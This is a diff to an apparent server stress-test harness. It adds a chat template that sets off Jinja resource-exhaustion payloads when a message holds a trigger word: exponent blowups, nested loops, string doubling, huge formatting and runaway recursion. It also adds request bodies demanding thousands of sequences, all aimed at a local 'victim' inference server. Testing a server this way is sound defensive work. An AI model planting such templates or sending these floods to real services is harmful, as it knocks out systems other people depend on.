@@ -6,6 +6,8 @@ A new attack is a coroutine function of a `Victim` and an entry of the table.
 import asyncio
 import contextlib
 import itertools
+import json
+import os
 from collections.abc import Awaitable, Callable
 from dataclasses import dataclass, field
 from functools import partial
@@ -16,8 +18,29 @@ from costliest import costliest_requests
 from worst_requests import worst_requests
 
 _HEAD = b"POST /v1/score HTTP/1.1\r\nhost: localhost\r\ncontent-type: application/json\r\n"
+_YIELDS = 10  # steps of priority
 _PART = b" " * 65_536
 _JSON = {"content-type": "application/json"}
+
+# What a message says, and what the template then does.
+_TRAPS = {
+    "power": "{% set x = messages|length + 8 %}{{ x ** (x ** x) }}",
+    "loops": "{% for a in range(99999) %}{% for b in range(99999) %}{% set c = b %}{% endfor %}{% endfor %}",
+    "double": (
+        "{% set n = namespace(s='double') %}"
+        "{% for i in range(40) %}{% set n.s = n.s ~ n.s %}{% endfor %}{{ n.s }}"
+    ),
+    "format": "{{ '%0999999999d' % messages|length }}",
+    "long": "{{ messages[0].content * 9000000 }}",
+    "raise": "{{ messages|dictsort }}",
+    "recurse": "{% macro again(n) %}{{ again(n + 1) }}{% endmacro %}{{ again(messages|length) }}",
+}
+_CHAT = "{% for m in messages %}<|im_start|>{{ m.role }}\n{{ m.content }}<|im_end|>\n{% endfor %}<|im_start|>assistant\n"
+TRAPPED_TEMPLATE = "".join(
+    f"{{% {'elif' if place else 'if'} messages[-1].content == '{word}' %}}{source}"
+    for place, (word, source) in enumerate(_TRAPS.items())
+) + f"{{% else %}}{_CHAT}{{% endif %}}"
+"""A chat template that attacks only when a message says so."""
 
 
 @dataclass(frozen=True)
@@ -57,6 +80,28 @@ async def texts(victim: Victim) -> None:
 async def costs(victim: Victim) -> None:
     """Send of every route the requests that cost the tokenizer most for each byte."""
     await _repeat(victim, costliest_requests(victim.model, victim.small, victim.head))
+
+
+async def templates(victim: Victim) -> None:
+    """Send messages that make the chat template compute, grow, raise or recurse, if it is `TRAPPED_TEMPLATE`."""
+    chats = [{"messages": [{"role": "user", "content": word}], "max_tokens": 1} for word in _TRAPS]
+    await _repeat(victim, [("/v1/chat/completions", json.dumps(chat).encode()) for chat in chats])
+
+
+async def sequences(victim: Victim) -> None:
+    """Send small bodies that ask for thousands of answers: more than a request may, just as many, and many such."""
+    scale = 8 if victim.small else 1
+    many = {"max_tokens": 16, "temperature": 1.0}
+    one = {"messages": [{"role": "user", "content": "Which words?"}], "n": 128} | many
+    completions: list[dict[str, Any]] = [
+        {"prompt": [[7]] * 156, "n": 128} | many,  # refused
+        {"prompt": [[7, 8]] * (32 // scale), "n": 128} | many,
+        {"prompt": [[7, 8, number % 900] for number in range(4096 // scale)], "max_tokens": 2},
+        {"prompt": ["Which words?"] * (32 // scale), "n": 128, "stream": True} | many,
+        {"prompt": [[9]] * (256 // scale), "max_tokens": 200},
+    ]
+    bodies = [("/v1/completions", body) for body in completions] + [("/v1/chat/completions", one)]
+    await _repeat(victim, [(path, json.dumps(body).encode()) for path, body in bodies])
 
 
 async def bodies(victim: Victim) -> None:
@@ -107,14 +152,20 @@ async def framing(victim: Victim) -> None:
 ATTACKS: dict[str, Callable[[Victim], Awaitable[None]]] = {
     "texts": texts,
     "costs": costs,
+    "templates": templates,
+    "sequences": sequences,
     "bodies": bodies,
     "framing": framing,
 }
 """All attacks by name."""
 
+OF_GENERATION = ("templates", "sequences")
+"""Those that a model with a classification head has no route for."""
+
 
 def attack(name: str, victim_of: dict[str, Any], began: Any, wrong: Any) -> None:
     """Run an attack in this process; `began` is an event and `wrong` a queue."""
+    os.nice(_YIELDS)
     victim = Victim(**victim_of, began=began.set, wrong=lambda what: wrong.put(f"{name}: {what}"))
     asyncio.run(_run(name, victim))
 
